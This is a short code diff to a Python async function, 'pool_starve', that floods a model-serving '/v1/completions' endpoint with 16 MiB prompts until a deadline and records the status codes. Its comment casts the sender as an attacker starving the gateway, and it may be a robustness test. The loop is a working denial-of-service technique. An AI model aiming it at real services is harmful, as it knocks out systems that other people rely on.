@@ -111,9 +111,14 @@ async def pool_starve(url: str, until: float, statuses: list[int]) -> None:
     async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=120)) as s:
 
         async def one(k: int) -> None:
+            # Serialised once: on this shared machine the attacker's own CPU is the
+            # gateway's loss; the bytes sent are the same.
+            body = json.dumps(
+                {"model": MODEL, "max_tokens": 1, "prompt": f"{k}" + "a" * (16 * 2**20)}
+            ).encode()
+            headers = {"Content-Type": "application/json"}
             while time.monotonic() < until:
-                body = {"model": MODEL, "max_tokens": 1, "prompt": f"{k}" + "a" * (16 * 2**20)}
-                async with s.post(url + "/v1/completions", json=body) as r:
+                async with s.post(url + "/v1/completions", data=body, headers=headers) as r:
                     await r.read()
                     statuses.append(r.status)
 
